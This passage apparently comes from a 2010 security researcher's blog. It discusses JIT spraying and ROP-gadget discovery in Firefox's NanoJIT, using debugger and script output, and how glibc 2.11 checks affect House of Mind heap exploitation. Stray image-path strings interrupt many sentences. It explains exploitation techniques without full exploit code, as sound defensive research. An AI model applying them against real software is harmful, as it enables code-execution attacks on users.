But almost as important as reliable code execution, the more sensitive content we push into web browsers the more valuable a highly reliable and controllable info leak could become. You could theoretically use it to read an open document or webmail or any other sensitive content the users browser has open at the time or has cached in memory from a previous site.

Anyways, hope you enjoyed the post, it was a fun vulnerability to analyze. Thanks to Google, Apple and WebKit for responding so quickly [2], even to a Medium! Now go and update your browser.

[1] http://en.wikipedia.org/wiki/Double_precision_floating-point_format
[2] http://trac.webkit.org/changeset/72685/trunk/WebCore/css/CSSParser.cpp

Wednesday, June 23, 2010

Its 2010 and your browser has an assembler

So it's 2010 and your browser has an assembler. How the hell did that happen? Simple, performance. Your browser probably includes at least one JIT (Just In Time Compiler). One for Javascript (Chrome, Firefox) and possibly others for plugins like Adobe Flash Player. If you're using Firefox with the Adobe Flash Player plugin thenit has two instances of the same JIT called NanoJIT. Firefox uses SpiderMonkey/TraceMonkey as its front end to NanoJIT and Flash uses Tamarin as its front end. TraceMonkey watches for Javascript code that could benefit from being compiled into native code. It translates Javascript into LIR (Low-Level Intermediate Representation) instructions which NanoJIT turns into Native x86, x86_64, Sparc, PPC or ARM instructions. This is why your browser has an assembler in 2010.

Surely native code generation in your browser can't be bad for security? Dionysus Blazakis figured out aclever exploitation technique [1] where he used ActionScript byte code to JIT-spray a browser. The native code generated by Tamarin/NanoJIT was easy to influence via the ActionScript under his control. After reading Dion's paper last year I wanted to write my own JIT spray and research other JITs. I started with NanoJIT in Firefox. Along the way I noticed some interesting things that Ithought would make a good blog post. My research isn't done but this writeup has been for awhile now and there is no sense in letting it collect dust in a directory any longer.

So first the basics. Pages for NanoJIT on Windows are allocated using the VirtualAlloc function and have RWX permissions. VirtualAlloc is not subject to ASLR (Address Space Layout Randomization) so it does not return randomized page locations. i.e. An attackers JavaScript can cause many allocations of contiguous RWX page mappings. These allocations are not at a 32-bit x86 page size granularity but their sizes are static. The next JIT-page allocation should be at 0x10000 bytes past the previous one. Dion also notes this in his paper. This is bad, but not the end of the world.

Heres some output from a WinDbg plugin I wrote (JitFind) that tracks the pages NanoJIT is using for compiled JavaScript. There are some holes in the range but as you can clearly see there are multiple contiguous allocations.

[ JitFind ] (25) 0x03510000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (26) 0x03520000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (27) 0x03530000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX[ JitFind ] (28) 0x03540000 | js3250!VMPI_setPageProtection+0x4a |Breakpoint is off | RWX
[ JitFind ] (29) 0x03550000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (30) 0x03560000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (31) 0x03570000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (32) 0x03580000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (33) 0x03590000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (34) 0x035a0000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (35) 0x039d0000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (36) 0x039e0000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (37) 0x039f0000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (38) 0x03b00000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (39) 0x03b10000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (40) 0x03b20000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (41) 0x03b30000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (42) 0x03c40000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (43) 0x03c60000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (44) 0x03c70000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX
[ JitFind ] (45) 0x03c80000 | js3250!VMPI_setPageProtection+0x4a | Breakpoint is off | RWX

NanoJIT internally uses a CodeList structure to track JIT pages, within each page is a pointer to the previous page, the next page and the offset where theexecutable code can be found. In the case of NanoJIT, JitFind works by monitoring for calls to VMPI_setPageProtection, nanojit::Assembler::endAssembly, and nanojit::CodeAlloc::reset and then walks the list for pages it might have missed. JitFind can also track pages in any process marked executable with VirtualProtect, and I'm in the process of adding support for other JIT's as well. Writing JitFind was a large part of this research effort and if I accomplished nothing else, its a pretty nice plugin.

Mozilla had already started to tackle part of the problem awhile back [2]. If you couldn't read that whole Bugzilla thread then I will sum it up for you. Mozilla's current Linux solution to solve the RWX pages problem is to make a mirror page. One is W and one is X where writes to one are translated to another. There is talk of porting the patch to Win32 and OSX as well. I don't believe this is the best solution as its goal is to make an SELinux policy happy (no WX pages) and ignores the Windows user base with a bigger problem (contiguous RWX page allocations at non-randomized locations). At best its a partial solution. The contiguous page issue does not affect Linux because NanoJIT will use the mmap function to allocate pages and mmap is subject to ASLR, which means it allocates pages at a random location.

So its quite obvious if an attacker can get his code into those RWX page regions, or a write4 anywhere condition, via an overflow or dangling pointer, he stands a pretty good chanceof guessing where they are because of VirtualAlloc. But theres another twist to this issue and when combined with the contiguous RWX pages, makes for an interesting exploitation scenario.

NanoJIT writes code backwards from the end of the page. This is why code offsets from the beginning of the page appear to change. One of the important things to know is that NanoJIT also assembles a large jump table and other static code inline with JIT'd code. This static code sets up stack frames and performs other small work for the transition to/from JIT'd code. This means there are static instructions at known offsets repeated across contiguous RWX pages. I started thinking, might an attacker be able to write Javascript that forces the allocation of many RWX JIT pages, trigger his vulnerability and then transfer execution to [ JIT_PAGE + PAGE_SIZE - ROP Gadget ] to get arbitrary code execution? If your not familiar with ROP, it stands for 'Return Oriented Programming' [3] [4]. Now of course its not as easy as that in the real world. We need to find useable ROP gadgets within that static code. This is done by analyzing a large set of JIT pages, determining if any RET instructions can be found at predictable locations and then finding usable ROP gadgets preceding them. I attempted this using acombination of JitFind to dump the raw JIT RWX page contents as they were created and a simple Ruby script that analyzed each page dump for consistent RET instructions and used rbdasm to dump those potential ROP gadgets.

First we need to write some JavaScript that will force Firefox intoallocating a bunch of contiguous pages that contain the same static code before we can realistically look for ROP gadgets. Resource intensive JavaScript will be required, thats why the JIT was created in the first place. Remember we are only interested in the static code produced by the JIT, not influencing the instructions like Dion did. I thought about this problem for awhile. Some simple math problems wouldn't do the trick so I turned to graphics. A Google search for JavaScript ray tracers turned up exactly what Ineeded. I borrowed a ray tracer written in JavaScript from the internet and after some minor tweaking NanoJIT started to sing. My tweaks mainly consisted of instructing the ray tracer to draw high quality large resolution images. With this I could now force the allocation of many (40 to 50) contiguous RWX allocations through a single instance of the ray tracer. There are a few holes in the address space here, presumably due to the system heap allocator stealing them but I haven't looked into that. This minor detail obviously hurts the reliability of the technique and I need to research it further.

Heres the output of my gogo-gadget-finder ruby script analyzing 224 pages created by five simultaneous instances of the ray tracer in a single Firefox instance. One issue here is that as pages are no longer needed they are free'd and sometimes allocated again by another ray tracer instance. I filtered these duplicates out and while it lowered the overall number of pages I was scanning it is a more accurate reflection of the process image during runtime. This behavior appears to be different then that of Tamarin and Dions experience with Flash where pages were not immediately unmapped.

* As Dion points out in the comments, he kept the JIT pages mapped using a reference to functions on them. I suspect you can do something similar in Javascript but I have not looked into it.
$ ruby gogo-gadget-finder.rb -m 5
RET @ 0xffd7 (10)
|_ raw_page_2150000-1947765593.bin
|_ raw_page_23d0000-2279729936.bin
|_ raw_page_23f0000-50251687.bin
|_ raw_page_2750000-2059690635.bin
|_ raw_page_29f0000-3894631435.bin
|_ raw_page_2d10000-2295099192.bin
|_ raw_page_2e60000-1268413647.bin
|_ raw_page_2e80000-1700891559.bin
|_ raw_page_3560000-1344858230.bin
|_ raw_page_36c0000-1565064345.bin
RET @ 0xe437 (5)
|_raw_page_2150000-1947765593.bin
|_ raw_page_23f0000-50251687.bin
|_ raw_page_2750000-2059690635.bin
|_ raw_page_2e60000-1268413647.bin
|_ raw_page_35f0000-1316993084.bin
RET @ 0xfb09 (5)
|_ raw_page_1eb0000-1004861587.bin
|_ raw_page_2e70000-2748893595.bin
|_ raw_page_35d0000-2041835722.bin
|_ raw_page_3620000-3921514024.bin
|_ raw_page_3620000-467968694.bin
RET @ 0xffef (6)
|_ raw_page_1ea0000-181584545.bin
|_ raw_page_29a0000-141065932.bin
|_ raw_page_29b0000-3609538306.bin|_ raw_page_2e60000-1313636049.bin
|_ raw_page_3580000-330610872.bin
|_ raw_page_35c0000-420260428.bin

Thats not a lot of repeated RET instructions, and the ones that do match are generated by the NanoJIT assembler and not in the middle of another instruction stream. Each of these repeated RET's is preceded by a large jump table and then a 'pop ebp' instruction. Whats worse is that the repeated RETs that do exist are not in pages that border one another. So while our ray tracer is generating the right number of pages, we are not getting consistent reusable gadgets across them.

So where does this leave us? ROP gadgets ending in RET instructions is going to be difficult to pull off. We didn't even find a stack pivot gadget to kick off the process. More research is needed.

Next Steps:

It may be possible to chain together sequences of 'pop %reg; jmp %reg;' to get code execution [5]. These too of course must meet thesame requirements as our RET based ROP gadgets. They must be at static locations across many of the JIT pages. More fine grained control over the page creation is also desirable. The ray tracer proved useful for generating pages to search for ROP gadgets but further research of NanoJIT is needed to know whether we can influence a specific jump table or other static code construct. I only looked at NanoJITs generation of 32bit x86 code, it supportsother architectures too! Of course researching similar issues on other JITs is also on the radar.


This is not a specific flaw in Firefox or NanoJIT. If anything its an architectural oversight that should be further researched and hardened. The Mozilla team obviously cares about your security, which is evident by the SELinux thread from last year, but I think the problem is bigger on Windows and thats where the focus should be. This is not a trivial problem to solve on any platform. There are several factors at play including attacker influenced nativecode (Dions attack), static code produced by NanoJIT, page permissions and page allocation specifics. VirtualAlloc makes the contiguous allocations unavoidable short of a VirtualAlloc wrapper or another randomized page allocation API. But keeping the page permissions correct is a good place to start. Of course if you have ever written a browser exploit you already know that there are much easier ways to get code execution, DLLs loaded at fixed addresses or heap spray to name a few.

In the end this could theoretically result in an ASLR / DEP bypass for Firefox or any application that uses NanoJIT. The combination of repeated ROP gadgets in contiguous RWX page allocations makes it worth further study. And while that has not been proven here it was fun to research. Hope you enjoyed the post rant.


If your a Firefox user and the idea of a JavaScript JIT makes you nervous, I have good news for you. You can disable it: https://wiki.mozilla.org/JavaScript:TraceMonkey#Playing_with_TraceMonkey

Another JavaScript JIT Spray Presentation:Tuesday, January 26, 2010

Glibc 2.11 stops the House of Mind

I was reading malloc.c from the Glibc 2.11 sources and I noticed a new check in the _int_free() function:
[4965]      bck = unsorted_chunks(av);
[4966] fwd = bck->fd;
[4967] if (__builtin_expect (fwd->bk != bck, 0))
[4968] {
[4969] errstr = "free(): corrupted unsorted chunks";
[4970] goto errout;
[4971] }
[4972] p->fd = fwd;
[4973] p->bk = bck;
[4974] if (!in_smallbin_range(size))
[4975] {
[4976] p->fd_nextsize = NULL;[4977] p->bk_nextsize = NULL;
[4978] }
[4979] bck->fd = p;
[4980] fwd->bk = p;
The check starting on line 4967 appears to have been added this past June. If you're not a security person then let me bring you up to date. Corrupting heap meta data traditionally allows you to execute arbitrary code. There are plenty of papers out there you can read to catch up on the subject, but theres one important fact you should be aware of. Most of these techniques no longer work within 1 to 2 years of publication. This is because the libc maintainers add small bits of code like the one above to save you from yourself. This particular new patch is checking to see whether the arena's bin contains a location that points to a valid chunk. If that check wasn't there (as is the case in glibc 2.10.1) then the 'fwd->bk = p' line can be used to write the address of 'p' anywhere. If that didn't make sense to you then you're probably not a glibc maintainer or a neurotic security researcher, consider yourself normal.
If you're not familiar with the House of Mind then you should read 'The Malloc Maleficarum' written by PhantasmalPhantasmagoria:
"The method used involves tricking the wrapper invoked by free(),
called public_fREe(), into supplying the _int_free() internal
function with a designer controlled arena. This can subsequently
lead to an arbitrary memory overwrite. A call to free() actually
invokes a wrapper called public_fREe():"
I won't be covering these techniques in great detail here but essentially what can happen is through a single call to free() on a chunk we can overflow we can fool ptmalloc into using an arena structure we control. Certain members of the arena structure allow for arbitrary code execution to occur if the right conditions can be met. This technique currently still works in Ubuntu 9.10. The short story is: the new validation added to Glibc 2.11 stops the House of Mind technique.

... or does it?

The Malloc Maleficarum covers a second House of Mind technique which, unlike the first one, requires we place our arena at the location we want to overwrite. It still leverages a single call to free() and the trust the allocator has in the arena structure (its also been covered in other papers, see the bottom of this post) but the difference in the second technique is that the arenas 'fastbinY' container is used instead of 'bins'. This takes _int_free down a different code path, a far less constrained one. However the pointer exchange is not quite the same in this code path and so in order to gain code execution we need to place the start of our arena just before the data we want to overwrite. We can gain control of execution because we get a value of our choice written back to arena->fastbin[X] It'snot an ideal 